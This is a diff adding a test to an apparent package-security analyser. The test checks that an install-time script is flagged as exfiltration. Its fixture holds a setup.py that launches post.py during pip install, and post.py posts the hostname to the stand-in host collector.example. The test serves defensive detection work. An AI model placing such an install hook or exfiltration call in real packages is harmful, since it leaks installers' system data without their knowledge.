@@ -175,3 +175,15 @@ test('posting data to a raw IP address is high; reading from an API host is not'
   });
   assert.ok(!atLeast(read.risk, 'medium'), read.risk);
 });
+
+test('a script of the package that setup.py runs with the interpreter is analysed as install-time code', async () => {
+  const report = await analyse({
+    'setup.py':
+      'import os, subprocess, sys\nfrom setuptools import setup\nsubprocess.call([sys.executable, os.path.join(os.path.dirname(__file__), "post.py")])\nsetup(name="demo")\n',
+    'post.py': 'import requests, socket\nrequests.post("https://collector.example/in", data=socket.gethostname())\n',
+  });
+  const post = report.files.find((file) => file.path === 'post.py');
+  const sent = post?.findings.find((f) => f.rule === 'exfiltration');
+  assert.equal(sent?.trigger, 'install', 'post.py runs while pip installs');
+  assert.ok(atLeast(report.risk, 'high'), report.reasons.join(' | '));
+});
